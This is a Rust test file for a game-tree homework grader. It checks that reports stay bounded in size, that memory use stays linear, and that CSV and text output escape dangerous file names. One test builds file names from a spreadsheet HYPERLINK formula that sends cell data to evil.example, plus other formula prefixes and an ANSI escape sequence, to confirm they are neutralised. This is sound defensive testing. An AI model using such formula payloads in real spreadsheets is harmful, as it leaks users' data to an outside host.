//! Grading's outputs stay bounded whatever an answer file holds: every
//! report of a file (text, table, CSV, JSON, Gradescope, JUnit) grows
//! with the input at most by a constant factor and never past a cap; one
//! long answer line is read and graded in memory linear in its length;
//! and a CSV cell cannot be a spreadsheet formula or a terminal control
//! sequence.

mod common;

use gametree::check::{CheckReport, Grading, LISTED_UP_TO, Source, Visibility};

const LECTURE: &str = "trees/lecture-a-to-v.tree";

/// `n` answer lines of every sort a gaming or broken file holds: right
/// answers, repeats, wrong node values, false cut claims, windows outside
/// the key, lines that do not read, ids that name no node.
fn hostile_answers(n: usize) -> String {
    (0..n)
        .map(|k| match k % 8 {
            0 => "expect value 5\n".to_string(),
            1 => format!("expect C = {k}\n"),
            2 => "expect cut D beta\n".to_string(),
            3 => format!("expect value: x{k}\n"),
            4 => format!("expect ZZ{k} = 1\n"),
            5 => format!("expect window J [{k}, +inf]\n"),
            6 => "expect pruned H T\n".to_string(),
            _ => "expect cut F beta\n".to_string(),
        })
        .collect()
}

/// The lecture tree's answer file `text` graded against the tree's key,
/// or claim by claim.
fn graded(text: &str, claims: bool) -> CheckReport {
    let tree = std::fs::read_to_string(LECTURE).unwrap();
    let files = vec![Source::new(LECTURE, tree), Source::new("a.answers", text)];
    let grading = Grading {
        claims,
        ..Grading::default()
    };
    grading.grade(None, files).unwrap().report
}

/// Every form of `report`, with its name.
fn every_form(report: &CheckReport) -> Vec<(&'static str, String)> {
    let gradescope = report.to_gradescope(Visibility::Visible, 0.5);
    vec![
        ("text", report.files[0].to_text()),
        ("table", report.to_table()),
        ("csv", report.to_csv()),
        ("json", serde_json::to_string_pretty(report).unwrap()),
        (
            "gradescope",
            serde_json::to_string_pretty(&gradescope).unwrap(),
        ),
        ("junit", report.to_junit()),
    ]
}

#[test]
fn every_report_grows_at_most_linearly_and_stops_at_a_cap() {
    // Against the key, a file's report lists its 11 questions and at most
    // LISTED_UP_TO extras and unreadable lines; claim by claim, at most
    // CLAIMS_LISTED_UP_TO claims. Each line's part is a few hundred bytes.
    for (claims, cap) in [(false, 96 * 1024), (true, 1536 * 1024)] {
        for n in [8, 400, 40_000] {
            let text = hostile_answers(n);
            let report = graded(&text, claims);
            for (form, output) in every_form(&report) {
                let (size, input) = (output.len(), text.len());
                assert!(
                    size <= cap,
                    "{form}, {n} lines, claims {claims}: {size} bytes"
                );
                assert!(
                    size <= 64 * input + 16 * 1024,
                    "{form}, {n} lines, claims {claims}: {size} bytes for {input}"
                );
            }
            let file = &report.files[0];
            assert_eq!(file.total, if claims { n } else { 11 });
            if let Some(grade) = &file.grade {
                // Of each eight lines: the first value and cut at F and
                // pruned lists answer their questions, and their repeats
                // are extra, as are C's value, D's cut (false) and J's
                // window; the unreadable value and the unknown node are
                // errors. All counted, 50 of each listed; the false cut
                // claim, the same each time, costs once.
                let m = n / 8;
                assert_eq!((grade.extra_count, grade.error_count), (6 * m - 3, 2 * m));
                assert_eq!(grade.false_cuts, 1);
                assert_eq!(grade.extras.len(), grade.extra_count.min(LISTED_UP_TO));
                assert_eq!(grade.errors.len(), grade.error_count.min(LISTED_UP_TO));
            }
        }
    }
}

/// `expect KEYWORD H H H ...` with `ids` ids.
fn long_line(keyword: &str, ids: usize) -> String {
    format!("expect {keyword} {}\n", "H ".repeat(ids))
}

#[test]
fn one_long_answer_line_gives_a_short_report_in_every_format() {
    for keyword in ["pruned", "leaves"] {
        let text = long_line(keyword, 250_000);
        for claims in [false, true] {
            let report = graded(&text, claims);
            for (form, output) in every_form(&report) {
                assert!(
                    output.len() <= 16 * 1024,
                    "{keyword} {form}: {} bytes",
                    output.len()
                );
            }
        }
        // Repeats of one id count once in a pruned list (H alone: 1 of
        // the 4 pruned nodes), and each is a false entry of a leaves list.
        let file = &graded(&text, false).files[0];
        let question = |name: &str| {
            let grade = file.grade.as_ref().unwrap();
            grade
                .questions
                .iter()
                .find(|q| q.question == name)
                .unwrap()
                .points
        };
        match keyword {
            "pruned" => assert_eq!(question("pruned"), 0.25),
            _ => assert_eq!(question("leaves"), 0.0),
        }
    }
}

#[cfg(target_os = "linux")]
mod memory {
    use std::io::Read;
    use std::process::Stdio;

    use super::*;

    /// The peak resident memory (kB) of `gametree check --format junit
    /// LECTURE FILES...`, and its output. The output of the many small
    /// files after the one measured is larger than a pipe holds, so the
    /// child, blocked writing it, is still alive when its peak is read:
    /// the peak of the whole grading, the report built.
    fn peak_kb(files: &[String]) -> (u64, usize) {
        let mut args = vec!["check", "--format", "junit", LECTURE];
        args.extend(files.iter().map(String::as_str));
        let mut child = common::gametree(&args)
            .command()
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut stdout = child.stdout.take().unwrap();
        let mut first = [0u8; 1];
        stdout.read_exact(&mut first).unwrap();
        let status = std::fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap();
        let mut rest = Vec::new();
        stdout.read_to_end(&mut rest).unwrap();
        child.wait().unwrap();
        assert!(rest.len() > 256 * 1024, "the output must outgrow the pipe");
        let peak = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .unwrap();
        let kb = peak.trim().trim_end_matches("kB").trim().parse().unwrap();
        (kb, rest.len() + 1)
    }

    /// A 2 MB line of one repeated id costs at most 64 bytes of memory a
    /// byte of line over a run with a one-line file instead, as `expect
    /// leaves H H ...` (44 measured: the list is kept, each repeat being a
    /// false entry), and at most 4 as `expect pruned H H ...` (a set: the
    /// repeats are dropped as the line is read; 1.3 measured). Both were
    /// about 90: the grammar's tokens, and grading copied and searched
    /// the list again for each misconception.
    #[test]
    fn a_long_answer_line_is_graded_in_memory_linear_in_its_length() {
        let dir = common::scratch("long-line-memory");
        let write = |name: &str, text: &str| {
            let path = dir.join(name);
            std::fs::write(&path, text).unwrap();
            path.to_str().unwrap().to_string()
        };
        let fillers: Vec<String> = (0..120)
            .map(|k| write(&format!("filler-{k}.answers"), "expect value 4\n"))
            .collect();
        let with = |first: String| {
            let mut files = vec![first];
            files.extend(fillers.iter().cloned());
            files
        };
        let (base, _) = peak_kb(&with(write("short.answers", "expect pruned H\n")));
        for (keyword, most) in [("pruned", 4.0), ("leaves", 64.0)] {
            let text = long_line(keyword, 1_000_000);
            let (peak, _) = peak_kb(&with(write("long.answers", &text)));
            let per_byte = (peak.saturating_sub(base) * 1024) as f64 / text.len() as f64;
            assert!(
                per_byte <= most,
                "{keyword}: {peak} kB against {base} kB, {per_byte:.1} bytes a byte of line"
            );
        }
    }
}

#[test]
fn csv_cells_are_neither_formulas_nor_control_sequences() {
    let dir = common::scratch("csv-injection");
    let names = [
        "=HYPERLINK(\"http:evil.example?x=\"&A1,\"click\").ans",
        "+1.ans",
        "-2.ans",
        "@SUM(A1).ans",
        "a\u{1b}[31mb.ans",
    ];
    for name in names {
        std::fs::write(dir.join(name), "expect value 5\n").unwrap();
    }
    // Run where the files are, so that each cell is the name itself; `--`
    // ends the options (`-2.ans` is a file).
    let tree = std::fs::canonicalize(LECTURE).unwrap();
    let mut args = vec!["check", "--format", "csv", "--", tree.to_str().unwrap()];
    args.extend(names);
    let common::Outcome { stdout, stderr, .. } = common::gametree(&args).in_dir(&dir).outcome();
    assert!(!stdout.contains('\u{1b}'), "{stdout:?}");
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
    let rows = common::csv_rows(&stdout);
    assert_eq!(rows.len(), names.len() + 1, "{stdout}{stderr}{args:?}");
    for (row, name) in (1..).zip(names) {
        let cell = common::csv_cell(&rows, row, "file");
        let first = name.chars().next().unwrap();
        match first {
            '=' | '+' | '-' | '@' => assert_eq!(cell, format!("'{name}")),
            _ => assert_eq!(cell, "a<U+001B>[31mb.ans"),
        }
    }
    // The text table escapes the name too.
    args[2] = "text";
    let common::Outcome { stdout, .. } = common::gametree(&args).in_dir(&dir).outcome();
    assert!(
        !stdout.contains('\u{1b}') && stdout.contains("a<U+001B>[31mb.ans"),
        "{stdout}"
    );
}
